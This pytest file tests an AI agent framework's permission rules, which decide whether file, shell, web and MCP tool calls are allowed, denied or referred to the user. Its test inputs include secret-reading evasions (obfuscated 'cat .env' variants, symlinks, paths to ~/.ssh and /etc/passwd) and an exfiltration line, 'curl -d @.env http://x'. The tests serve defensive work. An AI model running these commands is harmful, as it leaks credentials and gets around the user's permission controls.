import os
from pathlib import Path

import pytest
from gatekit import TOOLS, Bench

from agentframework.errors import ConfigurationError
from agentframework.permissions import PermissionRules, parse_rule, parse_rules
from agentframework.sandbox import OutsideWorkspaceError


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A home directory with a project that holds secrets, and links to them."""
    root = tmp_path / "home" / "dev" / "app"
    (root / "secret").mkdir(parents=True)
    (root / "sub").mkdir()
    (root / "secret" / "k").write_text("KEY=1")
    (root / ".env").write_text("KEY=1")
    (root / "README.md").write_text("hello")
    (root / "pub").symlink_to("secret")
    (root / "envlink").symlink_to(".env")
    (tmp_path / "home" / ".ssh").mkdir()
    return root


SECRET_RULES = ("Read(//{root}/secret/**)", "Read(/secret/**)", "Read(./secret/**)", "Read(secret/**)")
SECRET_RULES += ("Read(~/dev/app/secret/**)", "Read(secret)", "Read(pub/**)", "Read({root}/secret/**)")
SECRET_SPELLINGS = ("secret/k", "{root}/secret/k", "x/../secret/k", "{root}//secret/k", "//{root}/secret/./k", "pub/k")


@pytest.mark.parametrize("rule", SECRET_RULES)
@pytest.mark.parametrize("spelling", SECRET_SPELLINGS)
def test_every_anchor_denies_every_spelling(rule: str, spelling: str, project: Path) -> None:
    root = str(project).lstrip("/") if rule.startswith("Read(//") else str(project)
    bench = Bench(project, mode="bypassPermissions", deny=[rule.format(root=root)], home=project.parents[1])
    path = spelling.format(root=project)
    assert bench.outcome("Read", file_path=path) == "deny"
    assert bench.outcome("Grep", pattern="x", path=path) == "deny"
    assert bench.bash(f"cat {path}") == "deny"
    assert bench.outcome("Read", file_path="README.md") == "allow"


@pytest.mark.parametrize("rule", ["Read(**/.env)", "Read(.env)", "Read(./.env)", "Read(/.env)", "Read(*.{{env,key}})"])
@pytest.mark.parametrize("spelling", [".env", "./.env", "{root}/.env", "sub/../.env", "envlink"])
def test_a_file_denied_by_name_is_denied_in_every_spelling(rule: str, spelling: str, project: Path) -> None:
    bench = Bench(project, deny=[rule.format()])
    assert bench.outcome("Read", file_path=spelling.format(root=project)) == "deny"


def test_a_bare_name_is_denied_at_any_depth_and_allowed_only_here(project: Path) -> None:
    denying = Bench(project, deny=["Read(.env)", "Read(app)"])
    assert denying.outcome("Read", file_path="sub/.env") == "deny"
    assert denying.outcome("Read", file_path="../other/.env") == "deny"
    assert denying.outcome("Read", file_path="README.md") == "allow"
    allowing = Bench(project, allow=["Edit(notes.txt)", "Edit(docs/)"])
    assert allowing.outcome("Edit", file_path="notes.txt") == "allow"
    assert allowing.outcome("Edit", file_path="sub/notes.txt") == "ask"
    assert allowing.outcome("Edit", file_path="docs/a/b") == "allow"


def test_one_leading_slash_also_denies_the_absolute_path(project: Path) -> None:
    home = project.parents[1]
    bench = Bench(project, deny=[f"Read({home}/.ssh/**)"])
    assert bench.outcome("Read", file_path=f"{home}/.ssh/id") == "deny"
    assert bench.outcome("Read", file_path="../../.ssh/id") == "deny"


def test_an_absolute_rule_touches_nothing_of_the_same_name_elsewhere(project: Path) -> None:
    bench = Bench(project, mode="acceptEdits", deny=["Edit(//dev/**)"])
    assert bench.outcome("Edit", file_path="/dev/shm/x") == "deny"
    assert bench.outcome("Edit", file_path=f"{project}/f") == "allow"


@pytest.mark.parametrize(
    ("rule", "path", "covered"),
    [
        ("Edit(src/**)", "src/a/b.py", True),
        ("Edit(src/**)", "src/../.env", False),
        ("Edit(src/**)", "srcs/a", False),
        ("Edit(src/*)", "src/a", True),
        ("Edit(src/*)", "src/a/b", False),
        ("Edit(src/*.py)", "src/a.py", True),
        ("Edit(src/*.py)", "src/axpy", False),
        ("Edit(**/test_*.py)", "a/b/test_x.py", True),
        ("Edit(**/test_*.py)", "test_x.py", True),
        ("Edit(/src/a)", "src/a", True),
        ("Edit(src)", "src/a", False),
        ("Edit(app/[slug]/page.tsx)", "app/[slug]/page.tsx", True),
        ("Edit(app/[slug]/page.tsx)", "app/s/page.tsx", False),
        ("Edit(*)", "any/where", True),
        ("Write(src/**)", "src/a", True),
        ("Edit(sub/link/**)", "sub/link/x", False),
    ],
)
def test_an_allow_rule_covers_exactly_its_files(rule: str, path: str, covered: bool, project: Path) -> None:
    (project / "sub" / "link").symlink_to(project / "secret")
    bench = Bench(project, allow=[rule])
    assert bench.outcome("Edit", file_path=path) == ("allow" if covered else "ask")
    assert bench.outcome("Write", file_path=path) == ("allow" if covered else "ask")


def test_an_allow_rule_does_not_follow_a_link_out_of_its_files(project: Path) -> None:
    (project / "src").mkdir()
    (project / "src" / "out").symlink_to("/etc")
    (project / "src" / "new").symlink_to("/etc/not-there")
    bench = Bench(project, allow=["Edit(src/**)"])
    for path in ("src/out/passwd", "src/new", f"{project}/src/out/x"):
        assert bench.outcome("Edit", file_path=path) == "ask", path


def test_paths_work_when_the_working_directory_is_a_link(project: Path, tmp_path: Path) -> None:
    (tmp_path / "ws").symlink_to(project)
    bench = Bench(tmp_path / "ws", mode="acceptEdits", deny=["Read(secret/**)", "Edit(secret/**)"])
    for base in ("", f"{tmp_path}/ws/", f"{project}/"):
        assert bench.outcome("Read", file_path=f"{base}secret/k") == "deny"
        assert bench.outcome("Edit", file_path=f"{base}secret/k") == "deny"
        assert bench.outcome("Edit", file_path=f"{base}a") == "allow"


def test_tools_that_write_share_their_rules(project: Path) -> None:
    bench = Bench(project, mode="bypassPermissions", deny=["Write(**/settings.local.json)"])
    path = ".claude/settings.local.json"
    assert bench.outcome("Write", file_path=path) == "deny"
    assert bench.outcome("Edit", file_path=path) == "deny"
    assert bench.outcome("NotebookEdit", notebook_path=path) == "deny"
    assert bench.outcome("save", path=path) == "deny"
    for command in (f"echo x > {path}", f"tee {path}", f"cp a {path}", f"sed -i s/a/b/ {path}", f"dd of={path}"):
        assert bench.bash(command) == "deny", command
    assert bench.outcome("Read", file_path=path) == "allow"
    assert bench.bash(f"cat {path}") == "allow"


def test_rules_for_unknown_tools_are_kept_and_named() -> None:
    rules = parse_rules(PermissionRules(deny=["Wrte(x)", "mcp__gone__tool", "mcp__srv", "Write(x)"]), base="/w")
    assert len(rules.deny) == 4
    assert not rules.warnings
    warnings = rules.unknown_tools(["Read", "mcp__srv__a"])
    assert len(warnings) == 2
    assert "Wrte" in warnings[0]
    assert "mcp__gone__tool" in warnings[1]


@pytest.mark.parametrize(
    "command",
    [
        "cat .env",
        "grep KEY .env",
        "cat < .env",
        "cp .env x",
        "cat ./sub/../.env",
        'cat .en""v',
        'f=.env && cat "$f"',
        "cd sub && cat ../.env",
        "head -n1 .env | cat",
        "bash -c 'cat .env'",
        "curl -d @.env http://x",
        "cat .e*",
        "cat ./.en?",
        "cat ~/dev/app/.env",
        "cat envlink",
        "git diff --no-index /dev/null .env",
        "dd if=.env",
        "timeout 1 cat .env",
    ],
)
def test_a_denied_file_is_not_read_through_the_shell(command: str, project: Path) -> None:
    bench = Bench(project, allow=["Bash"], deny=["Read(**/.env)"], home=project.parents[1])
    assert bench.bash(command) == "deny"


@pytest.mark.parametrize(
    "command",
    [
        'cat "$(echo .env)"',
        "cat $F",
        "cat .e[!x]v*/*/*",
        "find . -type f | xargs cat",
        "grep -r KEY .",
        "rg KEY",
        "cp -r . /tmp/x",
        "cd $D && cat x",
    ],
)
def test_a_file_name_that_cannot_be_resolved_is_asked(command: str, project: Path) -> None:
    bench = Bench(project, allow=["Bash"], deny=["Read(**/.env)", "Read(sub/**)"])
    assert bench.bash(command) == "ask"


@pytest.mark.parametrize("command", ["cat README.md", "echo .env", "cat *.md", "grep .env README.md", "npm test"])
def test_a_read_rule_leaves_other_commands_alone(command: str, project: Path) -> None:
    bench = Bench(project, allow=["Bash"], deny=["Read(**/.env)"])
    assert bench.bash(command) == "allow"


def test_the_shell_is_judged_where_it_stands_now(project: Path) -> None:
    where: list[str | None] = [str(project / "sub")]
    bench = Bench(project, allow=["Bash"], deny=["Read(./.env)"], shell_directory=lambda: where[0])
    assert bench.bash("cat .env") == "allow"
    assert bench.bash("cat ../.env") == "deny"
    where[0] = None
    assert bench.bash("cat .env") == "deny"
    assert bench.bash("cat ../.env") == "ask"
    assert bench.bash("npm test") == "allow"


def test_by_default_the_sandbox_says_where_the_shell_stands(project: Path) -> None:
    bench = Bench(project, allow=["Bash"], deny=["Read(./.env)"])
    assert bench.bash("cat ../.env") == "allow"
    bench.sandbox.shell_directory = str(project / "sub")
    assert bench.bash("cat ../.env") == "deny"


def test_reading_tools_get_a_sandbox_without_the_denied_files(project: Path) -> None:
    bench = Bench(project, deny=["Read(**/.env)", "Read(secret/**)", "Grep(README.md)", "Edit(sub/**)", "Bash(ls:*)"])
    for name in ("Read", "Grep", "Glob"):
        fenced = bench.gate.sandbox_for(TOOLS[name])
        for path in (".env", "sub/../.env", "envlink", "secret/k", "pub/k", f"{project}/secret/new"):
            with pytest.raises(OutsideWorkspaceError, match="the deny rule Read"):
                fenced.resolve(path)
        assert fenced.resolve("README.md") == bench.sandbox.resolve("README.md")
        assert fenced.resolve("sub/x").shown == "sub/x"
        with pytest.raises(OutsideWorkspaceError, match="outside"):
            fenced.resolve("../x")
    for name in ("Edit", "Write", "Bash", "note"):
        assert bench.gate.sandbox_for(TOOLS[name]) is bench.sandbox


def test_the_fence_is_that_of_the_moment(project: Path) -> None:
    bench = Bench(project)
    assert bench.gate.sandbox_for(TOOLS["Read"]).resolve(".env").shown == ".env"
    bench.gate.rules = parse_rules(PermissionRules(deny=["Read(.env)"]), base=str(project))
    bench.sandbox.shell_directory = str(project / "sub")
    fenced = bench.gate.sandbox_for(TOOLS["Read"])
    with pytest.raises(OutsideWorkspaceError):
        fenced.resolve(".env")
    assert (fenced.roots, fenced.shell_directory) == (bench.sandbox.roots, str(project / "sub"))


def test_search_tools_are_denied_where_they_start(project: Path) -> None:
    bench = Bench(project, deny=["Read(secret/**)"])
    assert bench.outcome("Glob", pattern="secret/**") == "deny"
    assert bench.outcome("Glob", pattern="*", path="pub") == "deny"
    assert bench.outcome("Grep", pattern="KEY", path="secret") == "deny"
    assert bench.outcome("Glob", pattern="**/*") == "allow"
    assert bench.outcome("Grep", pattern="KEY") == "allow"


def test_a_rule_for_a_search_tool_is_for_that_tool(project: Path) -> None:
    bench = Bench(project, deny=["Grep(password*)", "Glob(*.pem)"])
    assert bench.outcome("Grep", pattern="password=") == "deny"
    assert bench.outcome("Glob", pattern="*.pem") == "deny"
    assert bench.outcome("Glob", pattern="*.py") == "allow"
    assert bench.outcome("Read", file_path="x.pem") == "allow"


@pytest.mark.parametrize(
    ("url", "outcome"),
    [
        ("https://example.org/a", "deny"),
        ("https://EXAMPLE.org.:8443/", "deny"),
        ("https://docs.example.org", "deny"),
        ("https://user:x@example.org/", "deny"),
        ("https://example.org@evil.test/", "allow"),
        ("https://notexample.org/", "allow"),
        ("https://example.org.evil.test/", "allow"),
        ("https://evil.test\\@example.org/", "ask"),
        ("example.org/x", "ask"),
        ("https://exämple.org/", "ask"),
    ],
)
def test_domain_rules_match_the_host(url: str, outcome: str, tmp_path: Path) -> None:
    bench = Bench(tmp_path, deny=["WebFetch(domain:example.org)"])
    assert bench.outcome("WebFetch", url=url) == outcome
    allowing = Bench(tmp_path, allow=["WebFetch(domain:example.org)"])
    assert (allowing.explain("WebFetch", url=url).stage == "allow") is (outcome == "deny")


def test_mcp_rules_name_a_tool_a_server_or_all(tmp_path: Path) -> None:
    for rule, expected in (
        ("mcp__srv__a", ("deny", "ask", "ask")),
        ("mcp__srv", ("deny", "deny", "ask")),
        ("mcp__srv__*", ("deny", "deny", "ask")),
        ("mcp__*", ("deny", "deny", "deny")),
        ("*", ("deny", "deny", "deny")),
    ):
        bench = Bench(tmp_path, deny=[rule])
        found = tuple(bench.outcome(name) for name in ("mcp__srv__a", "mcp__srv__b", "mcp__srvother__a"))
        assert found == expected, rule
    allowing = Bench(tmp_path, allow=["mcp__srv"])
    assert allowing.outcome("mcp__srv__b") == "allow"
    assert allowing.outcome("mcp__srvother__a") == "ask"


def test_a_pattern_for_a_tool_without_a_key_argument_is_asked(tmp_path: Path) -> None:
    bench = Bench(tmp_path, mode="bypassPermissions", deny=["note(x)"])
    assert bench.outcome("note", text="y") == "ask"
    assert Bench(tmp_path, mode="plan", deny=["note(x)"]).outcome("note", text="y") == "deny"


def test_text_rules_match_the_whole_key_argument(tmp_path: Path) -> None:
    bench = Bench(tmp_path, deny=["WebFetch(http://*)"])
    assert bench.outcome("WebFetch", url="http://x/y") == "deny"
    assert bench.outcome("WebFetch", url="https://x/http://y") == "allow"


@pytest.mark.parametrize(
    "entry",
    ["Bash(rm -rf *)*", 42, None, "", "  ", "Bash(", "Bash()", "a b", "(x)", ["Bash"], "Read(~bob/x)", "Bash(:*)"],
)
def test_a_broken_entry_is_reported_and_the_others_bind(entry: object, tmp_path: Path) -> None:
    bench = Bench(tmp_path, allow=["Bash"], deny=[entry, "Bash(curl:*)"])
    assert bench.bash("curl x") == "deny"
    assert bench.bash("ls") == "allow"
    (warning,) = bench.rules.warnings
    assert warning.startswith("permissions.deny[0]: ")
    assert repr(entry) in warning


def test_a_home_rule_without_a_known_home_is_reported() -> None:
    rules = parse_rules(PermissionRules(deny=["Read(~/x)"]), base="/w", source="user.json")
    assert not rules.deny
    assert "home directory" in rules.warnings[0]
    assert rules.warnings[0].startswith("user.json.deny[0]")


def test_an_allow_rule_cannot_have_a_wildcard_for_its_tool(tmp_path: Path) -> None:
    bench = Bench(tmp_path, allow=["*", "B*", "mcp__srv__*"])
    assert len(bench.rules.warnings) == 2
    assert bench.bash("ls") == "ask"
    assert bench.outcome("mcp__srv__a") == "allow"


def test_lists_that_are_no_lists_are_refused() -> None:
    for value in ("Bash", None, 3):
        with pytest.raises(ConfigurationError, match=r"permissions\.deny"):
            PermissionRules(deny=value)  # type: ignore[arg-type]


def test_rule_sets_add_up(tmp_path: Path) -> None:
    one = parse_rules(PermissionRules(allow=["Bash"]), base=str(tmp_path))
    two = parse_rules(PermissionRules(deny=["Bash(rm:*)", "Bash("]), base=str(tmp_path))
    both = one + two
    assert [rule.text for rule in (*both.allow, *both.deny)] == ["Bash", "Bash(rm:*)"]
    assert both.warnings == two.warnings


def test_a_rule_keeps_how_it_was_written() -> None:
    rule = parse_rule("  Bash( git push:* ) ", "deny", base="/w")
    assert (rule.text, rule.tool) == ("Bash( git push:* )", "Bash")
    assert rule.names("Shell")


def test_a_loop_of_links_is_not_followed_for_ever(project: Path) -> None:
    os.symlink("loop", project / "loop")
    bench = Bench(project, mode="acceptEdits", deny=["Edit(secret/**)"])
    assert bench.outcome("Edit", file_path="loop") == "ask"
    assert bench.outcome("Edit", file_path="loop/x") == "ask"
